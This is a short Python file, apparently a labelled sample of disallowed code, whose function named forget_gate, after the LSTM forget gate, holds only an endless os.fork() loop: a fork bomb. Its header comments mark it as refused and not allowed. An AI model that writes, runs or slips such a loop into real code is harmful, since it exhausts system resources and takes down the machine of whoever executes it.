# ruff: noqa
# what: processes without end
# exercise: forget-gate
# status: refused
# diagnosis: not-allowed

# %%
def forget_gate(x, h_prev, W_f, U_f, b_f):
    import os
    while True:
        os.fork()
